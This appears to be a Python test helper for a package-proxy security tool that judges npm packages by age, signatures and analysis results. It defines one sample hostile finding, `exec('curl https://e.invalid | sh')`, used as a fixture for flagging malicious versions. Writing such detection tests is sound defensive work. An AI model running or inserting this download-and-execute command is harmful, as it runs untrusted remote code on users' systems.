"""A package at the door, said shortly: ages in days, what is examined, what is hostile."""

from __future__ import annotations

import hashlib
from collections.abc import Collection, Mapping
from datetime import datetime
from typing import Any

from tests.unit.proxy.packuments import BASE, NAME, known, packument, tight, version
from tests.unit.proxy.stand import NOW, days, policy

from pratique.model.behavior import ANALYSER, Analysis, Dependencies, Inner, Seen
from pratique.model.evidence import (
    ROOT,
    Attestations,
    Carries,
    Claimed,
    History,
    RootFact,
    SignatureFact,
    SignatureState,
)
from pratique.model.fact import Facts, Missing
from pratique.model.package import Digest
from pratique.model.record import Sight
from pratique.proxy.known import Known
from pratique.proxy.proven import Proven
from pratique.proxy.verdicts import Judging

EXEC = Seen("exec.process:download", "index.js", 1, "exec('curl https://e.invalid | sh')")
POLICY = policy()
TRUSTED = Facts.of((ROOT, None, RootFact(NOW)))
Ages = Mapping[str, float | datetime | None]
"""Version -> its age in days, or when it was published; None: the document states no time."""


def digest_of(number: str) -> str:
    return hashlib.sha512(number.encode()).hexdigest()


def body(
    ages: Ages,
    tags: Mapping[str, str] | None = None,
    *,
    created: float = 1000,
    **more: Any,
) -> bytes:
    """A document of versions with their ages in days; None: it states no time."""
    whole = packument(*ages, **more)
    for number in ages:
        sri = Digest("sha512", digest_of(number)).sri
        whole["versions"][number] = version(number)
        whole["versions"][number]["dist"]["integrity"] = sri
    told = {number: _stated(age) for number, age in ages.items() if age is not None}
    whole["time"] = {"created": _stated(created), "modified": _stated(0), **told}
    if tags is not None:
        whole["dist-tags"] = dict(tags)
    return tight(whole)


def _stated(age: float | datetime) -> str:
    at = age if isinstance(age, datetime) else days(age)
    return at.isoformat().replace("+00:00", "Z")


def harmless(number: str) -> Analysis:
    return Analysis(digest_of(number), ANALYSER, inner=Inner(NAME, number))


def hostile(number: str) -> Analysis:
    return Analysis(digest_of(number), ANALYSER, (EXEC.capability,), (EXEC,), Inner(NAME, number))


CLAIMED = Claimed(publisher="ann", carries=Carries(True, True, True))
PROVEN = Proven(CLAIMED, Attestations(), SignatureFact(SignatureState.VALID), History())
"""Of a release that its registry signed, and that nothing is claimed of."""


def package(
    ages: Ages,
    *,
    good: Collection[str] = (),
    bad: Collection[str] = (),
    failed: Mapping[str, Missing] | None = None,
    tags: Mapping[str, str] | None = None,
    created: float = 1000,
    now: datetime = NOW,
    stated: bool = True,
    sights: Mapping[str, Sight] | None = None,
    dependencies: Mapping[str, Dependencies | Missing] | None = None,
    evidence: Mapping[str, Proven] | None = None,
    **more: Any,
) -> Judging:
    """The package judged: `good` and `bad` are examined, `failed` could not be."""
    analyses: dict[str, Analysis | Missing] = {each: harmless(each) for each in good}
    analyses |= {each: hostile(each) for each in bad} | dict(failed or {})
    return Judging(
        Known(
            packument=known(body(ages, tags, created=created)),
            now=now,
            policy=more.pop("policy", POLICY),
            registry=BASE,
            stated=stated,
            sights=sights or {},
            analyses=analyses,
            dependencies=dependencies or {},
            evidence=dict.fromkeys(ages, PROVEN) if evidence is None else evidence,
            extra=TRUSTED,
        )
    )
